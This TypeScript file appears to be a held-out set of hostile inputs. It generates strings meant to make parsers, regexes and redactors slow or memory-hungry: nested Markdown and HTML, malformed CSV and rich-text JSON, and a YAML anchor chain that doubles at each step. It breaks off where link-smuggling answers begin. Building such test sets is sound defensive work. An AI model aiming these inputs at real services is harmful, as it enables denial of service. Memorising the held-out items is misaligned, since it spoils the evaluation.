/**
 * Held-out hostile inputs: texts that make careless parsers, expressions and
 * redactors slow or hungry for memory, and answers that try to pass links to
 * outside hosts.
 *
 * Whoever wrote them saw the documents (the description of the known
 * weaknesses) and not the engine: no file of the source, of its tests or of its
 * evaluation was open. They are scored once. A sibling in a test may not be
 * copied from here: a test that needs an input of one of these kinds makes its
 * own, otherwise this set measures nothing.
 *
 * In every entry `n` is the wanted length in characters, so that the size grows
 * linearly with `n`. `largest` keeps messages within 4,000 characters, queries
 * within 8,000, and everything else within 60,000 bytes of UTF-8.
 */

export interface HostileInput {
  /** What it attacks, in plain English. */
  name: string;
  kind: "message" | "query" | "markdown" | "html" | "csv" | "text" | "rich-text" | "answer";
  /** Grows with n about linearly; the largest n keeps it within the limit. */
  make(n: number): string;
  largest: number;
}

export interface LinkInput {
  name: string;
  /** Markdown text as a model might write it. */
  answer: string;
  /** Hosts that the text must not be able to link to. */
  hosts: string[];
}

const message = 4_000;
const query = 8_000;
/** For texts in ASCII: one byte for each character. */
const ascii = 60_000;
/** For texts whose characters take up to two bytes each. */
const twoBytes = 30_000;
/** For texts whose characters take up to three bytes each. */
const threeBytes = 20_000;

/** The unit as often as it fits between the two ends, within n characters. */
function wrap(before: string, unit: string, after: string, n: number): string {
  const room = n - before.length - after.length;
  return before + unit.repeat(Math.max(0, Math.floor(room / unit.length))) + after;
}

function fill(unit: string, n: number): string {
  return wrap("", unit, "", n);
}

/** As many opening parts as closing ones, within n characters. */
function nest(open: string, middle: string, close: string, n: number): string {
  const depth = Math.max(0, Math.floor((n - middle.length) / (open.length + close.length)));
  return open.repeat(depth) + middle + close.repeat(depth);
}

/** Numbered parts, for as long as the next one fits within n characters. */
function series(part: (index: number) => string, n: number): string {
  const parts: string[] = [];
  let length = 0;
  for (let index = 0; ; index += 1) {
    const next = part(index);
    if (next.length === 0 || length + next.length > n) return parts.join("");
    parts.push(next);
    length += next.length;
  }
}

/** One half made by the first function, the other by the second. */
function halves(first: (n: number) => string, second: (n: number) => string, n: number): string {
  const half = Math.floor(n / 2);
  return first(half) + second(half);
}

/** Parts joined by commas between two ends, within n characters. */
function list(before: string, part: (index: number) => string, after: string, n: number): string {
  const room = n - before.length - after.length;
  const parts = series((index) => `${part(index)},`, room);
  return before + parts.slice(0, -1) + after;
}

const messages: HostileInput[] = [
  {
    name: "phone: international prefixes that follow one another, each a new possible start",
    kind: "message",
    make: (n) => fill("+44 20 +49 30 ", n),
    largest: message,
  },
  {
    name: "phone: a number one digit short, then one that is whole, with no space between",
    kind: "message",
    make: (n) => fill("0207946095(020)79460958", n),
    largest: message,
  },
  {
    name: "phone: every digit separated by another kind of separator",
    kind: "message",
    make: (n) => fill("5-5.5 5/5(5)5\u00a05\u20115", n),
    largest: message,
  },
  {
    name: "phone: a run of plus signs with one digit at the end",
    kind: "message",
    make: (n) => wrap("", "+", "1", n),
    largest: message,
  },
  {
    name: "phone: extension words after each group of digits",
    kind: "message",
    make: (n) => wrap("+1 650 253 0000", " ext. 1x", ";ext=", n),
    largest: message,
  },
  {
    name: "phone: opening brackets before the digits, never closed",
    kind: "message",
    make: (n) =>
      halves(
        (m) => fill("((+(", m),
        (m) => fill("(650", m),
        n,
      ),
    largest: message,
  },
  {
    name: "phone: Arabic-Indic and fullwidth digits mixed with ASCII ones",
    kind: "message",
    make: (n) => fill("\uff0b\u0661\u0662\u0663 \uff14\uff15\uff16-789\u200b", n),
    largest: message,
  },
  {
    name: "phone: trunk prefixes of zeros, valid at every offset",
    kind: "message",
    make: (n) => fill("0044 00", n),
    largest: message,
  },
  {
    name: "phone: removing one number joins its neighbours into another",
    kind: "message",
    make: (n) => fill("+4930 +16502530000 901820 ", n),
    largest: message,
  },
  {
    name: "cards: one digit repeated, so that every window passes the check sum",
    kind: "message",
    make: (n) => fill("0000 0000 0000 0000-", n),
    largest: message,
  },
  {
    name: "cards: a run of digits without an end, in which no window passes the check sum",
    kind: "query",
    make: (n) => wrap("4", "1", "x", n),
    largest: query,
  },
  {
    name: "cards: fifteen digits of sixteen, again and again, separated by hyphens",
    kind: "query",
    make: (n) => fill("4111-1111-1111-111-", n),
    largest: query,
  },
  {
    name: "cards: a zero-width space after each digit",
    kind: "message",
    make: (n) => fill("4\u200b1\u200b1\u200b1\u200b", n),
    largest: message,
  },
  {
    name: "IBAN: a country code and check digits that start again every four characters",
    kind: "message",
    make: (n) => fill("DE89GB82", n),
    largest: message,
  },
  {
    name: "IBAN: groups of four that go on far beyond the longest number",
    kind: "query",
    make: (n) => wrap("FR76 ", "3000 ", "!", n),
    largest: query,
  },
  {
    name: "IBAN: lower case letters, digits and no-break spaces without an end",
    kind: "message",
    make: (n) => fill("mt84\u00a0malt\u00a0", n),
    largest: message,
  },
  {
    name: "email: a long dotted local part without an at sign",
    kind: "query",
    make: (n) => fill("a.", n),
    largest: query,
  },
  {
    name: "email: at signs and single letters by turns",
    kind: "query",
    make: (n) => fill("a@", n),
    largest: query,
  },
  {
    name: "email: a domain of many labels that ends in a character that is not allowed",
    kind: "message",
    make: (n) => wrap("x@", "a-a.", "_", n),
    largest: message,
  },
  {
    name: "email: plus and hyphen tags in the local part, the domain missing",
    kind: "message",
    make: (n) => wrap("jo", "+a-b_c%", "@", n),
    largest: message,
  },
  {
    name: "email: quoted local parts, the quotes never closed",
    kind: "message",
    make: (n) => fill('"a\\"@', n),
    largest: message,
  },
  {
    name: "addresses: dotted and colon-separated numbers that are almost IPs",
    kind: "message",
    make: (n) =>
      halves(
        (m) => fill("1.22.", m),
        (m) => fill("1::f:", m),
        n,
      ),
    largest: message,
  },
  {
    name: "dates: digits with slashes and dots that are almost dates of birth",
    kind: "message",
    make: (n) => fill("1/12.1990-", n),
    largest: message,
  },
  {
    name: "secrets: the parts of a token, each the start of another",
    kind: "message",
    make: (n) => fill("eyJhbGci.eyJ_-", n),
    largest: message,
  },
  {
    name: "placeholders: text in the form of the stand-ins for personal data",
    kind: "message",
    make: (n) => series((i) => `[phone ${i}] <EMAIL_${i}> {{iban-${i}}} `, n),
    largest: message,
  },
  {
    name: "words before numbers: announcements of a number that never comes",
    kind: "message",
    make: (n) => fill("my number is call me at name: ", n),
    largest: message,
  },
  {
    name: "web addresses: schemes one inside another",
    kind: "message",
    make: (n) => fill("https://u:p@", n),
    largest: message,
  },
  {
    name: "white space: tabs, no-break and ideographic spaces, with a word at each end",
    kind: "message",
    make: (n) => wrap("a", "\t\u00a0\u3000\u2003", "b", n),
    largest: message,
  },
  {
    name: "white space: line ends of every kind before one last character",
    kind: "query",
    make: (n) => wrap("how", "\r\n\n\r\u2028\u0085", "x", n),
    largest: query,
  },
  {
    name: "characters: one letter with thousands of combining marks",
    kind: "query",
    make: (n) => wrap("e", "\u0301\u0323\u0307", "", n),
    largest: query,
  },
  {
    name: "characters: halves of surrogate pairs between whole ones",
    kind: "message",
    make: (n) => fill("\ud83d\ud83d\ude00\ude00\u200d", n),
    largest: message,
  },
  {
    name: "search words: a new misspelt word each time, so that each one is looked up and corrected",
    kind: "query",
    make: (n) => series((i) => `pa${(i * 7919).toString(36)}wrod `, n),
    largest: query,
  },
  {
    name: "search words: the operators of full-text search, and quotes",
    kind: "query",
    make: (n) => fill('a* OR "b NEAR(c, 9) NOT ^d:', n),
    largest: query,
  },
  {
    name: "search words: one word without an end",
    kind: "query",
    make: (n) => series((i) => String.fromCodePoint(97 + ((i * i + 3 * i) % 26)), n),
    largest: query,
  },
  {
    name: "search words: a script without spaces, each pair of characters a term",
    kind: "query",
    make: (n) => series((i) => String.fromCodePoint(0x4e00 + ((i * 37) % 9000)), n),
    largest: query,
  },
  {
    name: "search words: pieces joined by hyphens, apostrophes and underscores",
    kind: "query",
    make: (n) => fill("re-o'n_b\u2019x-", n),
    largest: query,
  },
];

const markdown: HostileInput[] = [
  {
    name: "emphasis: openers of three kinds, none of them closed",
    kind: "markdown",
    make: (n) => fill("*a __b ~~c ", n),
    largest: ascii,
  },
  {
    name: "emphasis: runs whose lengths fit only by the rule of three",
    kind: "markdown",
    make: (n) =>
      halves(
        (m) => fill("a***b* ", m),
        (m) => fill("c**d*** ", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "emphasis: one run of alternating stars and underscores",
    kind: "markdown",
    make: (n) => wrap("", "*_", "a", n),
    largest: ascii,
  },
  {
    name: "links: opened brackets of images and links, none of them closed",
    kind: "markdown",
    make: (n) => fill("![[a", n),
    largest: ascii,
  },
  {
    name: "links: a bracket pair nested in itself, with a target at the end",
    kind: "markdown",
    make: (n) => nest("[", "a", "](b)", n),
    largest: ascii,
  },
  {
    name: "links: targets in angle brackets with a title that never ends",
    kind: "markdown",
    make: (n) => fill("[a](<b> 'c ", n),
    largest: ascii,
  },
  {
    name: "links: round brackets inside a target, never balanced",
    kind: "markdown",
    make: (n) => wrap("[a](", "(b\\", "", n),
    largest: ascii,
  },
  {
    name: "references: as many definitions as uses, all in one paragraph after them",
    kind: "markdown",
    make: (n) =>
      halves(
        (m) => series((i) => `[k${i}]: /${i} (t)\n`, m),
        (m) => `\n${series((i) => `[k${i}] `, m - 1)}`,
        n,
      ),
    largest: ascii,
  },
  {
    name: "references: definitions whose title goes on over lines and fails at the end",
    kind: "markdown",
    make: (n) => fill("[x]:\n/u\n(t\n", n),
    largest: ascii,
  },
  {
    name: "references: one label that almost reaches the limit, opened again and again",
    kind: "markdown",
    make: (n) => series((i) => (i % 331 === 0 ? "[" : "ab "), n),
    largest: ascii,
  },
  {
    name: "footnotes: definitions that call each other in a ring",
    kind: "markdown",
    make: (n) => series((i) => `[^${i}]: [^${i + 1}] [^0]\n\n`, n),
    largest: ascii,
  },
  {
    name: "code: runs of backticks of which every one has another length",
    kind: "markdown",
    make: (n) => series((i) => `e${"`".repeat((i % 240) + 1)}`, n),
    largest: ascii,
  },
  {
    name: "code: fences opened with tildes and backticks by turns, each longer than the last",
    kind: "markdown",
    make: (n) => series((i) => `${(i % 2 ? "~" : "`").repeat(3 + (i % 200))}\n`, n),
    largest: ascii,
  },
  {
    name: "lists: bullets and numbers nested on one line",
    kind: "markdown",
    make: (n) => wrap("", "- 1. + ", "a\n", n),
    largest: ascii,
  },
  {
    name: "lists: one nested list forty deep, then lines that continue it lazily",
    kind: "markdown",
    make: (n) => wrap(`${"* ".repeat(40)}a\n`, "b\n", "", n),
    largest: ascii,
  },
  {
    name: "lists: bullets of ever another kind, so that every item starts a new list",
    kind: "markdown",
    make: (n) => fill("- a\n+ a\n* a\n1) a\n1. a\n", n),
    largest: ascii,
  },
  {
    name: "lists: empty items followed by blank lines",
    kind: "markdown",
    make: (n) => fill("-\n\n  \n", n),
    largest: ascii,
  },
  {
    name: "quotes: sixty-four quotes deep with lists between, repeated on every line",
    kind: "markdown",
    make: (n) => fill(`${">-".repeat(32)} a\n`, n),
    largest: ascii,
  },
  {
    name: "quotes: depths that rise and fall from line to line",
    kind: "markdown",
    make: (n) => series((i) => `${"> ".repeat(1 + ((i * 13) % 50))}a\n\n`, n),
    largest: ascii,
  },
  {
    name: "tables: a header of many columns, then rows of one cell which are filled up",
    kind: "markdown",
    make: (n) => {
      const third = Math.floor(n / 3);
      const columns = Math.floor(third / 2);
      return `${"a|".repeat(columns)}\n${"-|".repeat(columns)}\n${fill("b\n", third - 2)}`;
    },
    largest: ascii,
  },
  {
    name: "tables: lines that look like delimiter rows but end in a letter",
    kind: "markdown",
    make: (n) => fill(`a|b\n${"| :-: ".repeat(60)}x\n`, n),
    largest: ascii,
  },
  {
    name: "tables: one delimiter row with white space of many widths",
    kind: "markdown",
    make: (n) => wrap("|a|\n|", " \t  -- \t :", "\n", n),
    largest: ascii,
  },
  {
    name: "tables: cells made only of escaped bars",
    kind: "markdown",
    make: (n) => wrap("|a|b|\n|-|-|\n|", "\\|`\\|", "|\n", n),
    largest: ascii,
  },
  {
    name: "tables: a header cell of great length above many short rows",
    kind: "markdown",
    make: (n) =>
      halves(
        (m) => `|${fill("long name ", m - 14)}|b|\n|-|-|\n`,
        (m) => fill("|1|2|\n", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "headings: one of great length above many short paragraphs",
    kind: "markdown",
    make: (n) =>
      halves(
        (m) => `# ${fill("title word ", m - 4)}\n\n`,
        (m) => fill("Short.\n\n## b\n\n", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "headings: six levels, all of them long, in front of each word",
    kind: "markdown",
    make: (n) => series((i) => `${"#".repeat((i % 6) + 1)} ${"level ".repeat(40)}\n\nw\n\n`, n),
    largest: ascii,
  },
  {
    name: "headings: a paragraph of many lines which the underline at the end turns into one",
    kind: "markdown",
    make: (n) => wrap("", "a b\n", "===\n\nbody\n", n),
    largest: ascii,
  },
  {
    name: "headings: closing number signs and spaces by turns",
    kind: "markdown",
    make: (n) => wrap("# a", " #\t##", "b\n", n),
    largest: ascii,
  },
  {
    name: "HTML in Markdown: openings of comments, instructions and CDATA, none of them closed",
    kind: "markdown",
    make: (n) => fill("a <!-- <? <![CDATA[ <!A ", n),
    largest: ascii,
  },
  {
    name: "HTML in Markdown: an inline tag whose attributes never end",
    kind: "markdown",
    make: (n) => fill("<a b='c' d=e\n", n),
    largest: ascii,
  },
  {
    name: "HTML in Markdown: tags opened inline and never closed",
    kind: "markdown",
    make: (n) => wrap("text ", "<b><sup>x", "\n", n),
    largest: ascii,
  },
  {
    name: "autolinks: host names that begin again with www at every dot",
    kind: "markdown",
    make: (n) => fill("www.a-", n),
    largest: ascii,
  },
  {
    name: "autolinks: trailing punctuation, entities and brackets to be trimmed",
    kind: "markdown",
    make: (n) => wrap("http://a.example/", ")&amp;?!.", "", n),
    largest: ascii,
  },
  {
    name: "autolinks: local parts of mail addresses that are tried from every letter",
    kind: "markdown",
    make: (n) => wrap("", "a.b-c_d+", "@", n),
    largest: ascii,
  },
  {
    name: "line ends: hard breaks by backslash and by spaces in one paragraph",
    kind: "markdown",
    make: (n) => fill("a\\\nb  \n", n),
    largest: ascii,
  },
  {
    name: "white space: spaces and tabs inside one line between two words",
    kind: "markdown",
    make: (n) => wrap("a", " \t", "b\n", n),
    largest: ascii,
  },
  {
    name: "white space: no-break and zero-width spaces that form a paragraph without words",
    kind: "markdown",
    make: (n) => wrap("# a\n\nb", "\u00a0\u200b\u2060", "c\n", n),
    largest: threeBytes,
  },
  {
    name: "entities: numbers and names that are not finished",
    kind: "markdown",
    make: (n) => fill("&#x&#9&amp&CounterClockwiseContourIntegra", n),
    largest: ascii,
  },
  {
    name: "front matter: anchors of YAML, each twice the one before",
    kind: "markdown",
    make: (n) =>
      `---\n${series((i) => (i === 0 ? "k0: &k0 [a, a]\n" : `k${i}: &k${i} [*k${i - 1}, *k${i - 1}]\n`), n - 12)}---\n\na\n`,
    largest: ascii,
  },
  {
    name: "front matter: lists of YAML nested in each other, and no closing line",
    kind: "markdown",
    make: (n) => wrap("---\na: ", "[{b: ", "\n", n),
    largest: ascii,
  },
  {
    name: "slices: a long paragraph of one-letter lines that uses definitions above it",
    kind: "markdown",
    make: (n) =>
      `${series((i) => `[d${i}]: /p${i}\n`, Math.floor(n / 4))}\n${fill("[d1]\nq\n", Math.floor((n * 3) / 4) - 1)}`,
    largest: ascii,
  },
  {
    name: "directives: braces and colons of template languages, never closed",
    kind: "markdown",
    make: (n) => fill("{{% a :::b[c]{d=", n),
    largest: ascii,
  },
];

const html: HostileInput[] = [
  {
    name: "nesting: block elements many thousand deep, never closed",
    kind: "html",
    make: (n) => fill("<div>", n),
    largest: ascii,
  },
  {
    name: "nesting: inline elements of many names, deep and closed in the right order",
    kind: "html",
    make: (n) => nest("<q><u>", "a", "</u></q>", n),
    largest: ascii,
  },
  {
    name: "nesting: lists within lists, each with one letter",
    kind: "html",
    make: (n) => fill("<ol><li>a", n),
    largest: ascii,
  },
  {
    name: "formatting: elements opened with other attributes each time, rebuilt in every paragraph",
    kind: "html",
    make: (n) =>
      halves(
        (m) => series((i) => `<font size=${i}>`, m),
        (m) => fill("<p>x", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "formatting: wrongly nested bold and links across paragraphs",
    kind: "html",
    make: (n) => fill("<b><p><a href=x></b></p>", n),
    largest: ascii,
  },
  {
    name: "formatting: closing tags of elements that are not open",
    kind: "html",
    make: (n) => wrap("<div><span>", "</i></p></br>", "a", n),
    largest: ascii,
  },
  {
    name: "white space: elements that hold only a space, beside each other in one paragraph",
    kind: "html",
    make: (n) => wrap("<p>a", " <em>\n</em>\t<code> </code>", "b</p>", n),
    largest: ascii,
  },
  {
    name: "white space: empty elements and comments between two words",
    kind: "html",
    make: (n) => wrap("<p>a ", "<!----><wbr><s></s>", " b", n),
    largest: ascii,
  },
  {
    name: "white space: no-break spaces as entities, each in an element of its own",
    kind: "html",
    make: (n) => wrap("<div>", "<u>&nbsp;</u>&#8203;", "</div>", n),
    largest: ascii,
  },
  {
    name: "white space: one text of spaces and line ends in preformatted text",
    kind: "html",
    make: (n) => wrap("<pre>a", " \n\t", "b</pre>", n),
    largest: ascii,
  },
  {
    name: "line breaks: hard breaks between spaces in one paragraph",
    kind: "html",
    make: (n) => wrap("<p>", "<br /> ", "a</p>", n),
    largest: ascii,
  },
  {
    name: "line breaks: hard breaks inside a heading and inside a cell",
    kind: "html",
    make: (n) =>
      halves(
        (m) => wrap("<h2>", "a<br>", "</h2>", m),
        (m) => wrap("<table><tr><th>", "b<br>", "</table>", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "tables: cells that span a thousand columns and all rows",
    kind: "html",
    make: (n) => wrap("<table>", "<tr><td colspan=1000 rowspan=65534>a", "</table>", n),
    largest: ascii,
  },
  {
    name: "tables: empty cells in one row, then many rows without cells",
    kind: "html",
    make: (n) =>
      halves(
        (m) => wrap("<table><tr>", "<td>", "", m),
        (m) => wrap("", "<tr>", "</table>", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "tables: tables within the cells of tables",
    kind: "html",
    make: (n) => fill("<table><tr><td>a", n),
    largest: ascii,
  },
  {
    name: "tables: text and elements in the wrong place, all moved out before the table",
    kind: "html",
    make: (n) => wrap("<table>", "a<b>c<tr>", "</table>", n),
    largest: ascii,
  },
  {
    name: "tables: columns declared with large spans, and captions",
    kind: "html",
    make: (n) => wrap("<table>", "<caption>a<colgroup><col span=1000>", "<tr><td>b</table>", n),
    largest: ascii,
  },
  {
    name: "tables: rows of which each has one cell more, up to a hundred",
    kind: "html",
    make: (n) => `<table>${series((i) => `<tr>${"<td>1".repeat((i % 100) + 1)}`, n - 15)}</table>`,
    largest: ascii,
  },
  {
    name: "attributes: thousands of different ones on one element",
    kind: "html",
    make: (n) => `<p ${series((i) => `a${i} `, n - 9)}>b</p>`,
    largest: ascii,
  },
  {
    name: "attributes: quotes that are opened and never closed",
    kind: "html",
    make: (n) => fill("<a href=\"b<img alt='c ", n),
    largest: ascii,
  },
  {
    name: "comments: almost closed, with hyphens and exclamation marks",
    kind: "html",
    make: (n) => wrap("<p>a</p><!--", "--! -- >-", "", n),
    largest: ascii,
  },
  {
    name: "comments: openings only, CDATA and declarations among them",
    kind: "html",
    make: (n) => fill("<!--<![CDATA[<!doctype<?", n),
    largest: ascii,
  },
  {
    name: "entities: names without a semicolon, and numbers out of range",
    kind: "html",
    make: (n) => fill("&notit&ampx&#99999999&#xD800;", n),
    largest: ascii,
  },
  {
    name: "scripts: scripts and comments within each other, never closed",
    kind: "html",
    make: (n) => fill("<script><!--<script></script ", n),
    largest: ascii,
  },
  {
    name: "foreign elements: SVG and MathML by turns, with HTML in their text points",
    kind: "html",
    make: (n) => fill("<svg><desc><math><mi>", n),
    largest: ascii,
  },
  {
    name: "templates: templates within templates, with rows of tables in them",
    kind: "html",
    make: (n) => fill("<template><tr><td>", n),
    largest: ascii,
  },
  {
    name: "choices: options and groups within a select that never ends",
    kind: "html",
    make: (n) => wrap("<select>", "<optgroup><option>a", "", n),
    largest: ascii,
  },
  {
    name: "headings: a long heading above many paragraphs of one letter",
    kind: "html",
    make: (n) =>
      halves(
        (m) => wrap("<h1>", "long title ", "</h1>", m),
        (m) => fill("<p>a</p>", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "headings: headings within headings and within summaries",
    kind: "html",
    make: (n) => fill("<details><summary><h3>a", n),
    largest: ascii,
  },
  {
    name: "escapes: text made of characters that Markdown has to escape",
    kind: "html",
    make: (n) => wrap("<p>", "*_[`]\\~|#", "</p>", n),
    largest: ascii,
  },
  {
    name: "escapes: code elements whose text is backticks of rising lengths",
    kind: "html",
    make: (n) => series((i) => `<code>${"`".repeat((i % 80) + 1)}</code>`, n),
    largest: ascii,
  },
  {
    name: "links: links with an image in each and no text, side by side",
    kind: "html",
    make: (n) => wrap("<p>", "<a href=/a><img src=b alt=c></a>", "</p>", n),
    largest: ascii,
  },
  {
    name: "definitions: terms and details in one list, each implied to be closed",
    kind: "html",
    make: (n) => wrap("<dl>", "<dt>a<dd><dt>", "</dl>", n),
    largest: ascii,
  },
];

const csv: HostileInput[] = [
  {
    name: "quotes: opened before each comma and closed nowhere",
    kind: "csv",
    make: (n) => wrap("a,b\n", '"x,\n', "", n),
    largest: ascii,
  },
  {
    name: "quotes: doubled ones only, an odd number of them",
    kind: "csv",
    make: (n) => wrap('q,a\n"', '""', "", n),
    largest: ascii,
  },
  {
    name: "quotes: in the middle of cells without quotes, with spaces before them",
    kind: "csv",
    make: (n) => wrap("a,b\n", 'c"d, "e" f\n', "", n),
    largest: ascii,
  },
  {
    name: "columns: half the file names columns, the other half is rows of one letter",
    kind: "csv",
    make: (n) =>
      halves(
        (m) => `${series((i) => `${i.toString(36)},`, m - 2)}z\n`,
        (m) => fill("a\n", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "columns: a header of commas only, then rows of commas only",
    kind: "csv",
    make: (n) => fill(`${",".repeat(240)}\n`, n),
    largest: ascii,
  },
  {
    name: "columns: ragged rows, of which the last is by far the widest",
    kind: "csv",
    make: (n) =>
      halves(
        (m) => wrap("a,b\n", "1\n", "", m),
        (m) => fill("2,", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "columns: a header cell of great length above many short rows",
    kind: "csv",
    make: (n) =>
      halves(
        (m) => wrap('"', "column name ", '",b\n', m),
        (m) => fill("1,2\n", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "columns: all columns have the same name",
    kind: "csv",
    make: (n) =>
      halves(
        (m) => wrap("", "id,", "id\n", m),
        (m) => fill(`${"1,".repeat(50)}\n`, m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "separators: comma, semicolon, tab and bar equally often",
    kind: "csv",
    make: (n) => fill("a,b;c\td|e\n", n),
    largest: ascii,
  },
  {
    name: "line ends: carriage returns alone, and blank lines between rows",
    kind: "csv",
    make: (n) => wrap("a,b\r", "\r\r\n\n1,2\n\r", "", n),
    largest: ascii,
  },
  {
    name: "line ends: inside one quoted cell, thousands of them",
    kind: "csv",
    make: (n) => wrap('question,answer\nx,"', "\r\n", '"\n', n),
    largest: ascii,
  },
  {
    name: "rows: a file of byte-order marks and separator declarations",
    kind: "csv",
    make: (n) => fill("\ufeffsep=;\n", n),
    largest: threeBytes,
  },
  {
    name: "cells: Markdown tables and brackets within the cells, to be escaped",
    kind: "csv",
    make: (n) => wrap("a,b\n", '"|-|[\n|*","<!--"\n', "", n),
    largest: ascii,
  },
];

const space = '{"nodeType":"text","value":" ","marks":[],"data":{}}';

const richText: HostileInput[] = [
  {
    name: "Contentful: quotes and lists nested many hundred deep",
    kind: "rich-text",
    make: (n) =>
      `{"nodeType":"document","data":{},"content":[${nest('{"nodeType":"blockquote","data":{},"content":[', space, "]}", n - 120)}]}`,
    largest: ascii,
  },
  {
    name: "Contentful: one paragraph of texts that are a single space, each with marks",
    kind: "rich-text",
    make: (n) =>
      list(
        '{"nodeType":"document","data":{},"content":[{"nodeType":"paragraph","data":{},"content":[',
        (i) =>
          `{"nodeType":"text","value":" ","marks":[{"type":"${i % 2 ? "bold" : "italic"}"}],"data":{}}`,
        "]}]}",
        n,
      ),
    largest: ascii,
  },
  {
    name: "Contentful: table rows with empty cells, the first row the widest",
    kind: "rich-text",
    make: (n) => {
      const cell = '{"nodeType":"table-cell","content":[]}';
      const row = '{"nodeType":"table-row","content":[]}';
      const half = Math.floor(n / 2) - 120;
      return (
        '{"nodeType":"document","content":[{"nodeType":"table","content":[' +
        list('{"nodeType":"table-row","content":[', () => cell, "]},", half) +
        list("", () => row, "]}]}", half)
      );
    },
    largest: ascii,
  },
  {
    name: "Contentful: embedded entries and links that lead nowhere",
    kind: "rich-text",
    make: (n) =>
      list(
        '{"nodeType":"document","content":[{"nodeType":"paragraph","content":[',
        (i) =>
          `{"nodeType":"entry-hyperlink","data":{"target":{"sys":{"id":"e${i}","type":"Link","linkType":"Entry"}}},"content":[]}`,
        "]}]}",
        n,
      ),
    largest: ascii,
  },
  {
    name: "Portable Text: as many mark definitions as spans, each span with several of them",
    kind: "rich-text",
    make: (n) => {
      const half = Math.floor(n / 2) - 60;
      return (
        list(
          '[{"_type":"block","markDefs":[',
          (i) => `{"_key":"k${i}","_type":"link","href":"/${i}"}`,
          "]",
          half,
        ) +
        list(
          ',"children":[',
          (i) => `{"_type":"span","text":"a","marks":["k${i}","k${i + 1}","strong","em"]}`,
          "]}]",
          half,
        )
      );
    },
    largest: ascii,
  },
  {
    name: "Portable Text: list items whose level grows without an end",
    kind: "rich-text",
    make: (n) =>
      list(
        "[",
        (i) =>
          `{"_type":"block","listItem":"bullet","level":${i + 1},"children":[{"_type":"span","text":"a"}]}`,
        "]",
        n,
      ),
    largest: ascii,
  },
  {
    name: "Portable Text: a list item with a level of a thousand million",
    kind: "rich-text",
    make: (n) =>
      list(
        "[",
        (i) =>
          `{"_type":"block","listItem":"${i % 2 ? "number" : "bullet"}","level":1e9,"children":[{"_type":"span","text":"a"}]}`,
        "]",
        n,
      ),
    largest: ascii,
  },
  {
    name: "Portable Text: a text of line ends and spaces in one span",
    kind: "rich-text",
    make: (n) =>
      wrap('[{"_type":"block","children":[{"_type":"span","text":"a', " \\n\\t", 'b"}]}]', n),
    largest: ascii,
  },
  {
    name: "ProseMirror: bullet lists within list items, many hundred deep",
    kind: "rich-text",
    make: (n) =>
      `{"type":"doc","content":[${nest('{"type":"bulletList","content":[{"type":"listItem","content":[', '{"type":"paragraph"}', "]}]}", n - 60)}]}`,
    largest: ascii,
  },
  {
    name: "ProseMirror: hard breaks and empty texts in one heading",
    kind: "rich-text",
    make: (n) =>
      list(
        '{"type":"doc","content":[{"type":"heading","attrs":{"level":1},"content":[',
        (i) => (i % 2 ? '{"type":"hardBreak"}' : '{"type":"text","text":" "}'),
        ']},{"type":"paragraph"}]}',
        n,
      ),
    largest: ascii,
  },
  {
    name: "ProseMirror: cells with enormous spans",
    kind: "rich-text",
    make: (n) =>
      list(
        '{"type":"doc","content":[{"type":"table","content":[',
        () =>
          '{"type":"tableRow","content":[{"type":"tableCell","attrs":{"colspan":100000,"rowspan":100000},"content":[]}]}',
        "]}]}",
        n,
      ),
    largest: ascii,
  },
  {
    name: "ProseMirror: one text with thousands of marks on it",
    kind: "rich-text",
    make: (n) =>
      list(
        '{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"a","marks":[',
        (i) => (i % 2 ? '{"type":"bold"}' : `{"type":"link","attrs":{"href":"/${i}"}}`),
        "]}]}]}",
        n,
      ),
    largest: ascii,
  },
];

const texts: HostileInput[] = [
  {
    name: "sentences: full stops and abbreviations that never end a sentence",
    kind: "text",
    make: (n) => fill("e.g. i.e. Dr. No. ", n),
    largest: ascii,
  },
  {
    name: "sentences: dots, question marks and closing quotes without words",
    kind: "text",
    make: (n) => fill('. ?" !) ...', n),
    largest: ascii,
  },
  {
    name: "words: a single word that fills the file",
    kind: "text",
    make: (n) => fill("x", n),
    largest: ascii,
  },
  {
    name: "words: a script without spaces and without full stops",
    kind: "text",
    make: (n) => series((i) => String.fromCodePoint(0x4e00 + ((i * 101) % 12_000)), n),
    largest: threeBytes,
  },
  {
    name: "line ends: blank lines that hold spaces, with one word at each end",
    kind: "text",
    make: (n) => wrap("a", "\n \t\n", "b", n),
    largest: ascii,
  },
  {
    name: "line ends: form feeds, vertical tabs, next-line and carriage returns",
    kind: "text",
    make: (n) => wrap("a", "\f\v\u0085\r", "b", n),
    largest: 48_000,
  },
  {
    name: "white space: zero-width characters and soft hyphens between two words",
    kind: "text",
    make: (n) => wrap("a", "\u00ad\u200b\u200d\ufeff", "b", n),
    largest: threeBytes,
  },
  {
    name: "characters: marks that combine with nothing, and Hangul letters to be composed",
    kind: "text",
    make: (n) =>
      halves(
        (m) => fill("\u0315\u0300\u05ae", m),
        (m) => fill("\u1112\u1161\u11ab", m),
        n,
      ),
    largest: threeBytes,
  },
  {
    name: "characters: letters which grow when they are normalised",
    kind: "text",
    make: (n) => fill("\ufdfa\u0390\ufb03", n),
    largest: threeBytes,
  },
  {
    name: "headings: short lines in capitals with a colon, none with text below",
    kind: "text",
    make: (n) => series((i) => `SECTION ${i}:\n\n`, n),
    largest: ascii,
  },
  {
    name: "headings: underlines of equals signs and hyphens that follow one another",
    kind: "text",
    make: (n) => fill("a\n====\n----\n", n),
    largest: ascii,
  },
  {
    name: "numbers: outline numbers that go on and on",
    kind: "text",
    make: (n) => wrap("", "1.2)", " a", n),
    largest: ascii,
  },
  {
    name: "indentation: lines whose indent rises to eighty and falls again",
    kind: "text",
    make: (n) => series((i) => `${" ".repeat((i * 3) % 80)}- a\n`, n),
    largest: ascii,
  },
  {
    name: "characters: flags and families of emoji joined without an end",
    kind: "text",
    make: (n) => fill("\u{1f468}\u200d\u{1f469}\u200d\u{1f1e9}\u{1f1ea}", n),
    largest: twoBytes - 6_000,
  },
];

const answers: HostileInput[] = [
  {
